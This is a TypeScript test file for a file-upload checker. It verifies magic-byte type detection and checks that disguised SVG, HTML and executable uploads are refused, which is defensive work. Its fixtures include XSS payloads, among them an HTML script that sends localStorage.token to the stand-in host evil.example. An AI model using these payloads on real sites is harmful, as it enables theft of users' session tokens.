import { describe, expect, it } from 'vitest';
import {
  declaredProblem,
  KNOWLEDGE_FILES,
  sniff,
  TICKET_ATTACHMENTS,
  uploadProblem,
  type UploadRule,
} from './upload-check';

const bytes = (...parts: (string | number[])[]) =>
  new Uint8Array(parts.flatMap((part) => (typeof part === 'string' ? Array.from(Buffer.from(part)) : part)));
const file = (content: Uint8Array | string, name: string, type = '') =>
  new File([typeof content === 'string' ? content : new Uint8Array(content)], name, { type });

const PNG = bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 'IHDR');
const JPEG = bytes([0xff, 0xd8, 0xff, 0xe0], 'JFIF');
const GIF = bytes('GIF89a', [1, 0, 1, 0]);
const WEBP = bytes('RIFF', [0, 0, 0, 0], 'WEBPVP8 ');
const PDF = bytes('%PDF-1.7\n%\xe2\xe3\n1 0 obj');
const ZIP = bytes('PK', [3, 4, 20, 0, 6, 0], '[Content_Types].xml');
const OLE = bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]);
const MP3_TAG = bytes('ID3', [4, 0, 0, 0]);
const MP3_FRAME = bytes([0xff, 0xfb, 0x90, 0x64, 0]);
const MP4 = bytes([0, 0, 0, 0x20], 'ftypisom', [0, 0, 2, 0]);
const M4A = bytes([0, 0, 0, 0x20], 'ftypM4A ', [0, 0, 0, 0]);
const WAV = bytes('RIFF', [0x24, 0, 0, 0], 'WAVEfmt ');
const OGG = bytes('OggS', [0, 2, 0, 0]);
const FLAC = bytes('fLaC', [0, 0, 0, 0x22]);
const WEBM = bytes([0x1a, 0x45, 0xdf, 0xa3, 0x9f]);
const EXE = bytes('MZ', [0x90, 0, 3, 0, 0, 0, 4, 0]);
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(localStorage.token)"/>';
const HTML = '<!doctype html><script>fetch("//evil.example?"+localStorage.token)</script>';

describe('sniff', () => {
  it.each([
    ['PDF', PDF, 'pdf'],
    ['PNG', PNG, 'png'],
    ['JPEG', JPEG, 'jpeg'],
    ['GIF', GIF, 'gif'],
    ['WebP', WEBP, 'webp'],
    ['ZIP (DOCX, XLSX)', ZIP, 'zip'],
    ['OLE (DOC, XLS)', OLE, 'ole'],
    ['MP3 with an ID3 tag', MP3_TAG, 'mp3'],
    ['MP3 frame', MP3_FRAME, 'mp3'],
    ['MP4', MP4, 'isoMedia'],
    ['M4A', M4A, 'isoMedia'],
    ['WAV', WAV, 'wav'],
    ['OGG', OGG, 'ogg'],
    ['FLAC', FLAC, 'flac'],
    ['WebM', WEBM, 'matroska'],
    ['UTF-8 text', bytes('date,patient\n2026-11-20,José\n'), 'text'],
    [
      'Windows-1252 text (Excel CSV)',
      bytes('nombre;ciudad\r\nJos', [0xe9], ';M', [0xe1], 'laga\r\n'),
      'text',
    ],
    ['a CSV opening with "<5"', bytes('<50,low\n'), 'text'],
    ['an executable', EXE, 'unknown'],
    ['UTF-16 text', bytes([0xff, 0xfe, 0x3c, 0, 0x73, 0]), 'unknown'],
  ])('tells %s', (_, head, kind) => {
    expect(sniff(head)).toBe(kind);
  });

  it.each([
    SVG,
    HTML,
    '<html><body>hi</body></html>',
    '<HTML>',
    '<script>alert(1)</script>',
    '<?xml version="1.0"?><svg/>',
    '<!-- a comment --><p>hi</p>',
    '\ufeff  \r\n\t<svg/>',
    '</p>',
    '<iframe src="javascript:alert(1)">',
  ])('calls %j markup', (text) => {
    expect(sniff(bytes(text))).toBe('markup');
  });
});

describe('uploadProblem for ticket attachments', () => {
  const check = (content: Uint8Array | string, name: string, type = '') =>
    uploadProblem(file(content, name, type), TICKET_ATTACHMENTS);

  it('takes the contract types, checked by content', async () => {
    expect(await check(PNG, 'recall-retry-settings.png', 'image/png')).toBeNull();
    expect(await check(JPEG, 'photo.jpg', 'image/jpeg')).toBeNull();
    expect(await check(PDF, 'invoice.pdf', 'application/pdf')).toBeNull();
    expect(await check('date,calls\n2026-11-20,1\n', 'calls.csv', 'text/csv')).toBeNull();
    expect(await check('date,calls\n', 'export.csv', 'application/vnd.ms-excel')).toBeNull();
    expect(await check(MP3_TAG, 'call.mp3', 'audio/mpeg')).toBeNull();
    expect(await check(M4A, 'memo.m4a', 'audio/mp4')).toBeNull();
    // No type, or a generic one: the name says which, the content must agree.
    expect(await check(ZIP, 'export.xlsx')).toBeNull();
    expect(await check('hello', 'notes.txt', 'application/octet-stream')).toBeNull();
  });

  it.each([
    ['an SVG image', SVG, 'logo.svg', 'image/svg+xml'],
    ['an SVG typed as PNG', SVG, 'logo.png', 'image/png'],
    ['an SVG named .txt', SVG, 'notes.txt', 'text/plain'],
    ['a text file typed text/html', 'hello', 'x.txt', 'text/html'],
    ['HTML named .txt', HTML, 'x.txt', 'text/plain'],
    ['HTML named .csv without a type', HTML, 'calls.csv', ''],
    ['HTML named .pdf', HTML, 'invoice.pdf', 'application/pdf'],
    ['an .html file typed text/plain', 'hello', 'page.html', 'text/plain'],
    ['an .htm file', 'hello', 'PAGE.HTM', ''],
    ['XHTML', 'hello', 'x.bin', 'application/xhtml+xml'],
    ['XML', '<?xml version="1.0"?><a/>', 'data.xml', 'text/xml'],
    ['an XML type with a suffix', 'hello', 'feed.txt', 'application/rss+xml'],
    ['a script', 'alert(1)', 'run.js', 'text/javascript'],
    ['an MHTML archive', 'hello', 'page.mht', 'message/rfc822'],
    ['markup after a byte-order mark', '\ufeff<svg/>', 'notes.txt', 'text/plain'],
  ])('refuses %s as unsafe', async (_, content, name, type) => {
    expect(await check(content, name, type)).toBe('unsafe');
  });

  it.each([
    ['an executable', EXE, 'setup.exe', 'application/x-msdownload'],
    ['an executable without a type', EXE, 'setup.exe', ''],
    ['an executable named .png', EXE, 'shot.png', 'image/png'],
    ['an executable named .txt', EXE, 'notes.txt', 'text/plain'],
    ['a ZIP archive', ZIP, 'all.zip', 'application/zip'],
    ['a video', MP4, 'tour.mp4', 'video/mp4'],
    ['a name without an extension nor a type', 'hello', 'README', ''],
    [
      'a Word document',
      ZIP,
      'letter.docx',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ],
  ])('refuses %s as another type', async (_, content, name, type) => {
    expect(await check(content, name, type)).toBe('wrongType');
  });

  it('refuses an empty file and one over 10 MB (the contract)', () => {
    expect(declaredProblem({ name: 'empty.png', size: 0, type: 'image/png' }, TICKET_ATTACHMENTS)).toBe(
      'empty',
    );
    const limit = 10 * 1024 * 1024;
    expect(
      declaredProblem({ name: 'call.wav', size: limit, type: 'audio/wav' }, TICKET_ATTACHMENTS),
    ).toBeNull();
    expect(
      declaredProblem({ name: 'call.wav', size: limit + 1, type: 'audio/wav' }, TICKET_ATTACHMENTS),
    ).toBe('tooLarge');
  });
});

describe('uploadProblem for knowledge files', () => {
  const check = (content: Uint8Array | string, name: string, type = '') =>
    uploadProblem(file(content, name, type), KNOWLEDGE_FILES);

  it('takes documents, audio and video (PDF, DOCX, TXT, MP3, MP4, etc.)', async () => {
    expect(await check(PDF, 'Accepted-insurance-plans.pdf', 'application/pdf')).toBeNull();
    expect(
      await check(ZIP, 'FAQ.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'),
    ).toBeNull();
    expect(await check(OLE, 'old.doc', 'application/msword')).toBeNull();
    expect(await check('We open at 8.', 'Hours-and-locations.txt', 'text/plain')).toBeNull();
    expect(await check('# Hours', 'hours.md', '')).toBeNull();
    expect(await check(MP3_FRAME, 'Front-desk-greeting.mp3', 'audio/mpeg')).toBeNull();
    expect(await check(MP4, 'tour.mp4', 'video/mp4')).toBeNull();
    expect(await check(WEBM, 'tour.webm', 'video/webm')).toBeNull();
    expect(await check(WAV, 'greeting.wav', '')).toBeNull();
  });

  it.each([
    ['an SVG', SVG, 'diagram.svg', 'image/svg+xml'],
    ['HTML', HTML, 'faq.html', 'text/html'],
    ['HTML typed as PDF', HTML, 'faq.pdf', 'application/pdf'],
    ['HTML typed as a video', HTML, 'tour.mp4', 'video/mp4'],
    ['an SVG without a type', SVG, 'notes.txt', ''],
  ])('refuses %s as unsafe', async (_, content, name, type) => {
    expect(await check(content, name, type)).toBe('unsafe');
  });

  it.each([
    ['an image', PNG, 'logo.png', 'image/png'],
    ['an executable typed as a PDF', EXE, 'plans.pdf', 'application/pdf'],
    ['an executable', EXE, 'setup.exe', 'application/x-msdownload'],
  ])('refuses %s as another type', async (_, content, name, type) => {
    expect(await check(content, name, type)).toBe('wrongType');
  });

  it('caps the size at 25 MiB (the contract names none)', () => {
    const rule: UploadRule = KNOWLEDGE_FILES;
    expect(rule.maxBytes).toBe(25 * 1024 * 1024);
    expect(declaredProblem({ name: 'tour.mp4', size: rule.maxBytes + 1, type: 'video/mp4' }, rule)).toBe(
      'tooLarge',
    );
    expect(declaredProblem({ name: 'empty.txt', size: 0, type: 'text/plain' }, rule)).toBe('empty');
  });
});
